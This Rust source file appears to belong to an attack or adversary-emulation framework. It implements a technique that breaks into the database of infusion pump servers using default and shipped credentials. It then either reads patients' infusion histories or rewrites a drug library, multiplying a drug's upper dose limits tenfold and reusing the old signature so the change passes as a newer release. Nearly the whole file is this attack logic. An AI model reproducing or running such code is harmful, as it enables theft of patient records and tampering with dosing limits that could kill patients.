//! Logs in to a database of pump servers, reads what is there, or puts an altered library in.

use super::open_shell::next_account;
use super::push_drug_library::altered;
use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::crypto::Passphrase;
use crate::net::port::{Input, SocketEvent, StreamId};
use crate::wire::Message;
use crate::wire::pump::SignedLibrary;
use crate::wire::query::Query;

/// Technique `query-database`.
#[derive(Debug)]
pub(super) struct QueryDatabase;

static ENTRY: Entry = Entry {
    id: "query-database",
    title: "Query the database of a pump server",
    summary: "Connects to the database, under TLS if that takes nothing else, and logs in with the account given (a password that is built into the product is public), then with \
              known and shipped ones. Reads the infusion history of a pump server, or reads its stored library, scales the upper limits of a \
              drug, gives it a higher version and writes it back with whatever signature it had. Records that the server encrypted stay \
              closed. Noise: a login from an unusual address, and for an alteration a stored library that nobody released.",
    parameters: &[
        Parameter {
            name: "target",
            kind: ParameterKind::Host,
            required: true,
            doc: "database",
        },
        Parameter {
            name: "server",
            kind: ParameterKind::Host,
            required: true,
            doc: "pump server whose data it is",
        },
        Parameter {
            name: "action",
            kind: ParameterKind::Text,
            required: true,
            doc: "`read` the history or `alter` the library",
        },
        Parameter {
            name: "user",
            kind: ParameterKind::Text,
            required: false,
            doc: "user",
        },
        Parameter {
            name: "password",
            kind: ParameterKind::Text,
            required: false,
            doc: "password",
        },
        Parameter {
            name: "port",
            kind: ParameterKind::Integer,
            required: false,
            doc: "port; 1433 if not given",
        },
        Parameter {
            name: "drug",
            kind: ParameterKind::Text,
            required: false,
            doc: "drug whose upper limits are scaled",
        },
        Parameter {
            name: "factor",
            kind: ParameterKind::Factor,
            required: false,
            doc: "factor on the upper limits; x10 if not given",
        },
        Parameter {
            name: "version",
            kind: ParameterKind::Integer,
            required: false,
            doc: "version claimed; 100 if not given",
        },
    ],
    references: &["T1078.001", "T1213", "T1565.001", "T0891"],
};

fn ask(step: &mut Step<'_, '_, '_>, stream: StreamId, query: Query) {
    step.say(stream, Message::Query(Box::new(query)));
}

/// The database takes nothing in clear: begins again under TLS.
fn under_tls(step: &mut Step<'_, '_, '_>, stream: StreamId) -> Progress {
    (step.state.given, step.state.tries) = (false, 0);
    match login(step) {
        Some(first) => {
            step.open_session(stream, Message::Query(Box::new(first)));
            Progress::Wait
        }
        None => Progress::Failed("no account to try"),
    }
}

/// The login to try next.
fn login(step: &mut Step<'_, '_, '_>) -> Option<Query> {
    let user = step.params.text("user").to_owned();
    let account = if !user.is_empty() && !step.state.given {
        step.state.given = true;
        Some((user, Passphrase::of(step.params.text("password"))))
    } else {
        next_account(step)
    };
    account.map(|(user, password)| Query::Login { user, password })
}

fn log_in(step: &mut Step<'_, '_, '_>, stream: StreamId) -> Progress {
    let Some(login) = login(step) else {
        return Progress::Failed("every login refused");
    };
    ask(step, stream, login);
    Progress::Reached(2)
}

fn said(step: &mut Step<'_, '_, '_>, stream: StreamId, query: &Query) -> Progress {
    let of = step.params.text("server").to_owned();
    let reads = step.params.text("action") == "read";
    match query {
        Query::LoginResult { accepted: false } => log_in(step, stream),
        Query::LoginResult { accepted: true } => {
            let query = if reads {
                Query::ReadHistory { of }
            } else {
                Query::ReadLibrary { of }
            };
            ask(step, stream, query);
            Progress::Reached(3)
        }
        Query::History(rows) if query.readable_records() > 0 => {
            let _ = rows;
            Progress::Done("records of patients")
        }
        Query::History(_) => Progress::Failed("records without anybody's name, or sealed"),
        Query::Library(Some(library)) => {
            step.knowledge.library = Some(SignedLibrary {
                library: library.library.clone(),
                signature: library.signature,
            });
            let Some(library) = altered(step) else {
                return Progress::Failed("nothing to alter");
            };
            ask(step, stream, Query::WriteLibrary { of, library });
            Progress::Wait
        }
        Query::Done => Progress::Done("stored"),
        Query::Denied if step.state.session.is_none() && step.state.stage <= 2 => {
            under_tls(step, stream)
        }
        _ => Progress::Failed("refused"),
    }
}

impl Technique for QueryDatabase {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "connect", "log in", "query", "done"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = step.params.text("target");
        let port = step.params.integer("port");
        let port = port.and_then(|p| u16::try_from(p).ok()).unwrap_or(1433);
        if let Some(progress) = step.reach(input, name, port) {
            return progress;
        }
        match input {
            Input::Socket(SocketEvent::Opened(stream)) => log_in(step, *stream),
            Input::Socket(SocketEvent::Message { stream, message }) => {
                match step.said(*stream, message) {
                    Ok(Message::Query(query)) => said(step, *stream, &query),
                    Ok(_) => Progress::Wait,
                    Err(progress) => progress,
                }
            }
            _ => Progress::Wait,
        }
    }
}
